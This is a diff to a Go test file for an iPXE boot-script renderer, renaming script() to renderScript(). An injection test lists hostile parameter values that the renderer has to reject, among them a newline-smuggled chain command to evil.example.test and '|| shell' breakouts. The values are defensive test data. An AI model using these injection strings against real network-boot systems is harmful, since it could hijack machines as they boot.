@@ -9,7 +9,7 @@ import (
 
 func TestScript(t *testing.T) {
 	n := testNode()
-	got, err := script(n.Plan, "a=b console=ttyS0")
+	got, err := renderScript(n.Plan, "a=b console=ttyS0")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -25,7 +25,7 @@ chain --replace --autofree boot.ipxe || exit 1
 		t.Errorf("%s", got)
 	}
 	n.Plan.Kernel, n.Plan.Ramdisk = "https://mirror.example.test/k?a=1&b=2", "http://192.0.2.9/r"
-	if got, err = script(n.Plan, ""); err != nil || !strings.Contains(got, "\nkernel --name kernel https://mirror.example.test/k?a=1&b=2 initrd=") ||
+	if got, err = renderScript(n.Plan, ""); err != nil || !strings.Contains(got, "\nkernel --name kernel https://mirror.example.test/k?a=1&b=2 initrd=") ||
 		!strings.Contains(got, "\ninitrd --name initrd http://192.0.2.9/r ||") {
 		t.Errorf("%s, %v", got, err)
 	}
@@ -37,14 +37,14 @@ func TestScriptRefusesInjection(t *testing.T) {
 		"a\nchain http://evil.example.test/", "a\rb", "a\x00b", "a=${net0/ip}", "a=$b", "a || shell", "a && shell", "a;b", `a="b`, "a='b", "a`b", `a\b`, "#a", "ä", "\x1b[2J",
 		strings.Repeat("a", 5000),
 	} {
-		if got, err := script(testNode().Plan, bad); !problem.Is(err, problem.Invalid) || got != "" {
+		if got, err := renderScript(testNode().Plan, bad); !problem.Is(err, problem.Invalid) || got != "" {
 			t.Errorf("params %q: %q, %v", bad, got, err)
 		}
 	}
 	for _, bad := range []string{"http://h/a b", "http://h/${x}", "http://h/'x", "http:///nohost", "http://h/#frag", "http://h/a\nb", "http://[::1/x"} {
 		p := testNode().Plan
 		p.Kernel = bad
-		if got, err := script(p, ""); err == nil && strings.Contains(got, bad) && strings.ContainsAny(bad, " \n${}'") || err != nil && !problem.Is(err, problem.Invalid) {
+		if got, err := renderScript(p, ""); err == nil && strings.Contains(got, bad) && strings.ContainsAny(bad, " \n${}'") || err != nil && !problem.Is(err, problem.Invalid) {
 			t.Errorf("kernel %q: %q, %v", bad, got, err)
 		}
 	}
@@ -57,7 +57,7 @@ func FuzzScript(f *testing.F) {
 	f.Fuzz(func(t *testing.T, params, kernel, ramdisk string) {
 		p := testNode().Plan
 		p.Kernel, p.Ramdisk = kernel, ramdisk
-		got, err := script(p, params)
+		got, err := renderScript(p, params)
 		if err != nil {
 			if !problem.Is(err, problem.Invalid) {
 				t.Fatal(err)
